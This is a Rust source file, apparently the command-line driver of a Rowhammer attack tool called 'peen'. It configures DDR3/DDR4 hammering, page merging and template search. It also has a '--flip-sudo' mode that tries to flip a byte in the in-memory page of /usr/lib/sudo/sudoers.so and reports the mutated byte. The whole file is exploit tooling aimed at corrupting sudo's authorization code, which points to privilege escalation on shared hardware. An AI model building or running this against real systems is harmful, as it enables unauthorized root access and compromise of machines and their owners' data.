use std::fs::File;
use std::io::BufWriter;
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use clap::Parser;
use indicatif::MultiProgress;
use log::info;
use peen_bin::init_logging_with_progress;
use peen_clflush::{ClflushHammer, Ddr4Hammer};
use peen_core::config::{HammerConfig, MergeWait, ScanMode};
use peen_core::hammerer::Hammering;
use peen_core::memory::DramConfig;
use peen_core::{Peen, RunOutcome, RunReport};
use peen_thp::ThpAllocator;

/// CLI arguments for the `peen` binary.
#[derive(Debug, Parser)]
#[command(
    name = "peen",
    about = "Double-sided DDR3 Rowhammer engine with a sudoers page-corruption pipeline"
)]
struct CliArgs {
    /// Hammer all controllable banks of each region.
    #[clap(long = "all", short = 'a', conflicts_with_all = ["bank", "random"])]
    all: bool,
    /// Hammer one bank.
    #[clap(long = "bank", short = 'b', conflicts_with = "random")]
    bank: Option<usize>,
    /// Hammer random aggressor row pairs and collect flip statistics.
    #[clap(long = "random", short = 'r')]
    random: bool,
    /// Search templates and attempt the sudoers flip end to end.
    #[clap(long = "flip-sudo", short = 'f', conflicts_with_all = ["all", "bank", "random"])]
    flip_sudo: bool,
    /// Hammering rounds per aggressor pair.
    #[clap(long = "rounds", short = 'R', default_value_t = 17)]
    rounds: u64,
    /// Row activations per hammering round.
    #[clap(long = "nactiv", short = 'n', default_value_t = 4 << 20)]
    nactiv: u64,
    /// Number of random aggressor pairs.
    #[clap(long = "pairs", short = 'p', default_value_t = 1000)]
    pairs: u64,
    /// DRAM address function file (JSON); defaults to the built-in DDR3
    /// functions.
    #[clap(long = "dram-config")]
    dram_config: Option<String>,
    /// Use the DDR4 multi-aggressor hammer loop.
    #[clap(long = "ddr4")]
    ddr4: bool,
    /// Access-time threshold in cycles for the DDR4 eviction calibration.
    #[clap(long = "threshold", default_value_t = 350)]
    threshold: u64,
    /// Wait this many seconds for same-page merging instead of blocking on
    /// stdin.
    #[clap(long = "merge-wait")]
    merge_wait: Option<u64>,
    /// Target shared object whose page is corrupted.
    #[clap(long = "library", default_value = "/usr/lib/sudo/sudoers.so")]
    library: PathBuf,
    /// File the hex dump of the mutated victim page is written to.
    #[clap(long = "dump", default_value = "sudo_out")]
    dump: PathBuf,
    /// Write the run report (JSON) to this file.
    #[clap(long = "output")]
    output: Option<String>,
    /// Activate debug prints.
    #[clap(long = "verbose", short = 'v')]
    verbose: bool,
}

fn print_config(config: &HammerConfig) {
    info!("hammering mode        : {:?}", config.mode);
    info!("hammering rounds      : {}", config.hammering_rounds);
    info!(
        "activations per round : {:.1} million",
        config.num_row_activations as f64 / 1e6
    );
    if config.mode == ScanMode::RandomPairs {
        info!("random hammer pairs   : {}", config.random_pairs);
    }
    if config.mode == ScanMode::FlipSudoers {
        info!("target library        : {}", config.target_library.display());
        info!("merge wait            : {:?}", config.merge_wait);
    }
}

fn run<H: Hammering>(
    hammerer: H,
    dram: DramConfig,
    config: HammerConfig,
    progress: MultiProgress,
) -> Result<RunReport> {
    let peen = Peen::builder()
        .allocator(ThpAllocator::default())
        .hammerer(hammerer)
        .dram(dram)
        .config(config)
        .progress(progress)
        .build()?;
    Ok(peen.run())
}

fn main() -> Result<()> {
    let args = CliArgs::parse();
    let progress = init_logging_with_progress(if args.verbose { "debug" } else { "info" })?;
    info!("CLI args: {:?}", args);

    let dram = match &args.dram_config {
        Some(path) => DramConfig::from_jsonfile(path)
            .with_context(|| format!("loading DRAM config from {}", path))?,
        None => DramConfig::ddr3(),
    };

    let mode = if args.flip_sudo {
        ScanMode::FlipSudoers
    } else if args.all {
        ScanMode::AllBanks
    } else if args.random {
        ScanMode::RandomPairs
    } else {
        ScanMode::Bank(args.bank.unwrap_or(0))
    };

    let merge_wait = match args.merge_wait {
        Some(secs) => MergeWait::Sleep(Duration::from_secs(secs)),
        None => MergeWait::Operator,
    };

    let config = HammerConfig {
        num_row_activations: args.nactiv,
        hammering_rounds: args.rounds,
        random_pairs: args.pairs,
        mode,
        merge_wait,
        target_library: args.library.clone(),
        dump_path: args.dump.clone(),
        ..HammerConfig::default()
    };
    print_config(&config);

    let report = if args.ddr4 {
        run(Ddr4Hammer::new(args.threshold), dram, config, progress)?
    } else {
        run(ClflushHammer::default(), dram, config, progress)?
    };

    if let Some(output) = &args.output {
        let file = File::create(output)?;
        serde_json::to_writer_pretty(BufWriter::new(file), &report)?;
        info!("report written to {}", output);
    }

    match report.outcome {
        RunOutcome::Flipped(flip) => {
            info!(
                "[+] flipped library byte at {:#x}: {:#04x} -> {:#04x}",
                flip.file_offset, flip.original, flip.mutated
            );
            Ok(())
        }
        RunOutcome::Exhausted => bail!(
            "no verified flip after {} regions",
            report.regions_tried
        ),
        RunOutcome::Scanned(Some(template)) => {
            info!(
                "[+] template found at buffer offset {:#x} (library offset {:#x})",
                template.offset, template.op.file_offset
            );
            Ok(())
        }
        RunOutcome::Scanned(None) => {
            info!("no template found");
            Ok(())
        }
        RunOutcome::RandomFlips(flips) => {
            info!("============== total bit flips = {} ==============", flips.len());
            Ok(())
        }
    }
}
